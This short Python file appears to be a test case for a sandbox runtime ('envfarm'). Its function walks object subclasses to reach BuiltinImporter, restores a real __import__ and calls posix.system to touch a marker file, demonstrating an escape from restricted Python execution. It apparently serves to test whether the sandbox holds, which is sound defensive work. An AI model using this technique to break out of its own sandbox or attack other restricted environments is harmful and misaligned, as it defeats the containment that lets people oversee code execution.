# ruff: noqa
"""Escape: __builtins__ tampering: put a real import back, then use it."""

from envfarm.servers.runtime.database import Database


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    table = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
    real = (1).__class__.__mro__[-1].__subclasses__()
    loader = next(c for c in real if c.__name__ == "BuiltinImporter")
    table["__import__"] = loader.load_module("posix").__dict__.get("__import__") or table["__import__"]
    loader.load_module("posix").system(f"touch {marker}")
    return {"escaped": True}
